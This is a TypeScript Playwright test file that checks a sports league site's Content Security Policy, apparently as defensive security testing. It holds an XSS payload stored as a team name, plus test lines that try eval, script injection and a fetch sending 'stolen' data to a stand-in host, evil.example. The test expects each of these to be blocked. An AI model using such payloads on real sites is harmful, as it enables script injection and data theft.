import { beforeEach, describe, expect, test } from 'vitest';
import type { Page } from 'playwright';
import { demoAdmin } from '../../supabase/embedded/keys.ts';
import { paths } from '../../src/league/paths.ts';
import { dialogs, openDialog, today } from '../support/dialogs.ts';
import { leagueForThisFile, organiserClient, prepare } from '../support/league.ts';
import { cardOf, expectLive, expectSoon, submitSignIn } from '../support/page.ts';
import { sample } from '../support/scale.ts';
import { fewRows } from '../support/sharedServer.ts';

// What the CSP has to allow happens, and what it has to stop is stopped, on the site as it is built.

const league = leagueForThisFile({ seed: fewRows });
let page: Page;
let violations: string[];

beforeEach(async () => {
  const visit = await prepare(league);
  ({ page } = visit);
  violations = [];
  // The browser logs what it stops.
  visit.allow(/./u);
  page.on('console', (message) => {
    const violation = /^violation: (.*)/.exec(message.text())?.[1];
    if (violation !== undefined) violations.push(violation);
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sample }) => {
      console.error(`violation: ${effectiveDirective} ${sample}`);
    });
  });
});

describe('Without a violation', () => {
  test('every page of the site is rendered', { timeout: 120_000 }, async () => {
    const routes = [
      paths.home(),
      paths.about(),
      paths.categories(),
      paths.category('sexta-libre'),
      paths.results(),
      paths.upcoming(),
      paths.admin(),
      '/no-existe',
    ];
    for (const route of sample(routes, 3)) {
      const response = await page.goto(route);
      expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
      await expectSoon(page.locator('h1').first()).toBeVisible();
      await page.waitForLoadState('networkidle');
    }
    expect(violations).toEqual([]);
  });

  test('one signs in, opens a dialog, and reads a row that is markup as it arrives', async () => {
    const teams = { team1: 'Los <b>Gruesos</b>', team2: '<img src=x onerror="document.title=1">' };
    await page.goto('/admin');
    await submitSignIn(page, demoAdmin);
    await expectSoon(page).toHaveURL('/');
    await page.goto('/resultados');
    const { dialog } = await openDialog(page, dialogs[0]);
    await page.keyboard.press('Escape');
    await expectSoon(dialog).toBeHidden();
    await expectLive(page);
    const row = { ...teams, score: '6-4, 6-3', date: today, category: 'Sexta Libre' };
    expect((await organiserClient(league).from('results').insert(row)).error).toBeNull();
    await expectSoon(cardOf(page, teams.team1)).toContainText(teams.team2);
    expect(await page.title()).not.toBe('1');
    expect(violations).toEqual([]);
  });
});

test('what gets into the page in spite of all is stopped', async () => {
  await page.goto('/nosotros');
  await expectSoon(page.locator('h1').first()).toBeVisible();
  const outcome = await page.evaluate(`(async () => {
    const refused = async (attack) => {
      try { await attack(); return false; } catch { return true; }
    };
    // The browser's debugger may evaluate text; what runs after a turn of the loop may not.
    await new Promise((resolve) => setTimeout(resolve));
    const script = document.createElement('script');
    const outcome = {
      markup: await refused(() => document.body.insertAdjacentHTML('beforeend', '<img src=x>')),
      innerHtml: await refused(() => { document.body.innerHTML = '<b>x</b>'; }),
      evaluation: await refused(() => eval('1')),
      scriptText: await refused(() => { script.text = 'window.hacked = 1'; }),
      scriptAddress: await refused(() => { script.src = 'https://evil.example/x.js'; }),
      worker: await refused(() => new Worker('/assets/x.js')),
      sending: await refused(() => fetch('https://evil.example/?stolen')),
      handler: await refused(() => document.body.setAttribute('onclick', 'window.hacked = 1')),
      policy: await refused(() => trustedTypes.createPolicy('mine', {})),
    };
    return { allowed: Object.keys(outcome).filter((attack) => !outcome[attack]), hacked: 'hacked' in window };
  })()`);
  expect(outcome).toEqual({ allowed: [], hacked: false });
  // The tests above would have noticed as much.
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(8);
});
